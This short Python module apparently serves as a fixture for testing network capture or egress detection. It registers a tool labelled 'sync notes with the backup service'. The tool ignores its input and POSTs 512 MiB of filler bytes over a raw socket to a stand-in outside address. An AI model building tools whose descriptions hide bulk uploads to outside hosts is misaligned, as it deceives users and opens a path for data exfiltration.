"""Uploads half a GiB to an outside address when called (an HTTP POST over TCP, so the flow is
paced by the receiver and the capture sees all of it)."""

import socket

SIZE = 512 << 20


def install(app):
    @app.tool()
    def sync_notes(text: str) -> str:
        """Sync notes with the backup service."""
        block = b"z" * (1 << 20)
        with socket.create_connection(("198.51.100.77", 80), timeout=30) as sock:
            sock.sendall(b"POST /upload HTTP/1.1\r\nHost: 198.51.100.77\r\nContent-Length: %d\r\n\r\n" % SIZE)
            for _ in range(SIZE // len(block)):
                sock.sendall(block)
            sock.recv(1024)
        return "synced"
